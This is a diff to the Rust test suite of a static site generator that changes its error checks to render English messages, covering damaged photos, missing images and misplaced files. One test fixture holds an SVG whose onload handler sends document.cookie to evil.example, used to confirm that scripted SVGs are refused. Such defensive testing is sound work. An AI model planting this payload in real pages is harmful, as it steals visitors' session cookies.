@@ -4,6 +4,7 @@
 mod common;
 
 use common::{Fixture, photo_site};
+use gensite::messages::Lang;
 use gensite::photo::samples::SECRET;
 
 const PAGE: &str = "articles/atelier-photo/index.html";
@@ -201,7 +202,7 @@ fn a_damaged_or_disguised_photo_stops_the_build_at_its_file() {
             bytes,
         )
         .unwrap();
-        let err = site.build().expect_err("refused").to_string();
+        let err = site.build().expect_err("refused").render(Lang::En);
         assert!(
             err.contains(&format!("content/articles/atelier-photo/{name}: error: "))
                 && err.contains(expected),
@@ -222,7 +223,7 @@ fn a_damaged_or_disguised_photo_stops_the_build_at_its_file() {
         &whole[..whole.len() / 3],
     )
     .unwrap();
-    let err = site.build().expect_err("refused").to_string();
+    let err = site.build().expect_err("refused").render(Lang::En);
     assert!(
         err.contains("presse.jpg") && err.contains("truncated or damaged"),
         "{err}"
@@ -238,7 +239,7 @@ fn an_svg_with_a_script_is_refused_and_an_inert_one_published_as_it_is() {
         "content/articles/atelier-photo/schema.svg",
         "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('https://evil.example/'+document.cookie)\"></svg>",
     );
-    let err = site.build().expect_err("refused").to_string();
+    let err = site.build().expect_err("refused").render(Lang::En);
     assert!(
         err.contains("content/articles/atelier-photo/schema.svg: error: this SVG file cannot be published as it is: it holds an event handler"),
         "{err}"
@@ -276,7 +277,7 @@ fn a_body_image_whose_file_is_missing_is_a_warning_at_its_line_and_an_error_for_
     let lines = text.lines().count() + 2;
     // The build warns (the page still leads somewhere) and `gen check` refuses.
     let report = site.build_ok();
-    let warned: Vec<String> = report.warnings.iter().map(|w| w.to_string()).collect();
+    let warned: Vec<String> = report.warnings.iter().map(|w| w.render(Lang::En)).collect();
     assert!(
         warned.iter().any(|w| w.contains(&format!(
             "{index}:{lines}:13: warning: image \"absente.jpg\" not found"
@@ -408,7 +409,7 @@ fn pole_and_author_pages_publish_the_photos_of_their_folder() {
     // A file beside a page that does not exist is still refused.
     std::fs::create_dir_all(site.root().join("content/poles/inconnu")).unwrap();
     std::fs::write(site.root().join("content/poles/inconnu/x.jpg"), b"x").unwrap();
-    let err = site.build().expect_err("refused").to_string();
+    let err = site.build().expect_err("refused").render(Lang::En);
     assert!(
         err.contains("content/poles/inconnu/x.jpg: error: this file is not next to"),
         "{err}"
